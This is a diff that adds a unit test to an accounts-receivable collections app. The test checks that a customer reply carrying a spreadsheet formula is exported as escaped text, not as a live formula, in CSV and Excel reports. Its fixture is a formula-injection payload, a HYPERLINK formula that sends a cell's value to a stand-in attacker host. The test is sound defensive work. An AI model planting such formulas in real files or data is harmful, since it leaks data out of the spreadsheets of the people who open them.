@@ -161,6 +161,41 @@ class TestInbox(CollectionsTestCase):
 		self.assertEqual(frappe.db.count("Collections Inbox Item", {"communication": name}), 1)
 		self.assertEqual(process(name), first)
 
+	def test_a_reply_written_as_a_formula_exports_as_text(self):
+		"""A customer's reply is outside text: the Collections Inbox report's CSV and Excel exports carry
+		it as text, never as a formula a spreadsheet would run when AR opens the file."""
+		from frappe.desk.query_report import export_query
+
+		formula = '=HYPERLINK("https://evil.test/pay?c="&A1,"Pay here")'
+		item = process(received(self.email, formula + " We will pay on the 28th."))
+		self.assertEqual(frappe.db.get_value("Collections Inbox Item", item, "status"), "Needs Review")
+		exported = {}
+		for file_format in ("CSV", "Excel"):
+			frappe.local.form_dict = frappe._dict(
+				report_name="Collections Inbox",
+				file_format_type=file_format,
+				filters=frappe.as_json({"customer": self.customer}),
+				visible_idx="[0]",
+				custom_columns="[]",
+			)
+			frappe.local.response = frappe._dict()
+			try:
+				export_query()
+			finally:
+				frappe.local.form_dict = frappe._dict()
+			exported[file_format] = frappe.local.response.filecontent
+		self.assertIn("'=HYPERLINK", exported["CSV"].decode())
+		self.assertNotIn(',"=HYPERLINK', exported["CSV"].decode())
+		from io import BytesIO
+
+		from openpyxl import load_workbook
+
+		cells = [c for row in load_workbook(BytesIO(exported["Excel"])).active.iter_rows() for c in row]
+		replies = [c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
+		self.assertTrue(replies)
+		self.assertTrue(all(v.startswith("'=") for v in replies), replies)
+		self.assertFalse([c for c in cells if c.data_type == "f"], "no formula cells")
+
 
 class TestCashApplication(CollectionsTestCase):
 	def setUp(self):
